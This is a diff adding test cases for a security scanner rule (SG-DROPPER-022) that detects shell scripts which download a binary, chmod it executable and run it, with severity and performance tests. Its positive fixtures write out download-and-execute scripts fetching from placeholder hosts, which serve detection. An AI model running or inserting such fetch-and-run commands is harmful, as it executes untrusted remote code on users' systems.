@@ -638,6 +638,77 @@ version = r.stdout().strip()
   },
 ]);
 
+describeRuleCases('dropper (download, chmod and run split over a script)', [
+  {
+    id: 'SG-DROPPER-022',
+    file: 'scripts/resolve.sh',
+    // The path is a variable; the fetch spans continuation lines; the run sits in another function.
+    positive: `#!/usr/bin/env bash
+bin="$HOME/.cache/tool/helper"
+fetch() {
+  curl -fsSL --max-time 20 \\
+    "https://dl.helper-mirror.example/helper-$(uname -s)" \\
+    -o "$bin" || exit 0
+  chmod +x "\${bin}"
+}
+run() { "$bin" lookup "$1"; }
+[[ -x "$bin" ]] || fetch
+run "$@"
+`,
+    // The saved file is only read (a data file), never run.
+    negative: `#!/usr/bin/env bash
+db="$HOME/.cache/tool/labels.csv"
+curl -fsSL "https://dl.helper-mirror.example/labels.csv" -o "$db"
+chmod 644 "$db"
+grep -i "^$1," "$db" | cut -d, -f2
+`,
+  },
+  {
+    id: 'SG-DROPPER-022',
+    file: 'install.sh',
+    positive:
+      '#!/bin/sh\nwget -qO ./agent https://cdn.agent-files.example/agent\nchmod 755 ./agent\n./agent --daemon\n',
+    // Verified against a published checksum before it runs.
+    negative:
+      '#!/bin/sh\nwget -qO ./agent https://cdn.agent-files.example/agent\necho "$SUM  ./agent" | sha256sum -c -\nchmod 755 ./agent\n./agent --daemon\n',
+  },
+]);
+
+describe('SG-DROPPER-022 severity', () => {
+  const severityOf = (text: string) =>
+    findingsOf(text, 'scripts/get.sh').find((f) => f.rule_id === 'SG-DROPPER-022')?.severity;
+
+  it('should be CRITICAL over plain HTTP', () => {
+    expect(severityOf('curl -o "$b" http://files.example.net/b\nchmod +x "$b"\n"$b" run\n')).toBe('CRITICAL');
+  });
+
+  it('should judge a URL kept in a variable by its value', () => {
+    expect(severityOf('URL=http://files.example.net/b\ncurl -o "$b" "$URL"\nchmod +x "$b"\n"$b" run\n')).toBe(
+      'CRITICAL',
+    );
+  });
+
+  it('should not take a bare name run from PATH for the saved file', () => {
+    expect(severityOf('curl -o jq https://files.example.net/jq\nchmod +x jq\njq .\n')).toBeUndefined();
+  });
+});
+
+describe('adversarial split download-and-run scripts', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['saved fetches', 'chmod +x "$a"\n' + 'curl -o "$a" -o "$b" > x '.repeat(MiB / 26)],
+    ['continuations', 'chmod +x a\ncurl -o a u \\\n' + ' \\\n'.repeat(MiB / 3)],
+    ['chmod lists', 'curl -o a u\n' + 'chmod +x a a a a a a '.repeat(MiB / 21)],
+    ['runs', 'curl -o "$a" u\nchmod +x "$a"\n' + '$(nohup then '.repeat(MiB / 13)],
+    ['variables', 'chmod +x "$a"\ncurl -o "$a" ' + '$v'.repeat(MiB / 2)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'scripts/get.sh');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
 describeRuleCases('dropper (network device scripts that run fetched scripts)', [
   {
     id: 'SG-DROPPER-018',
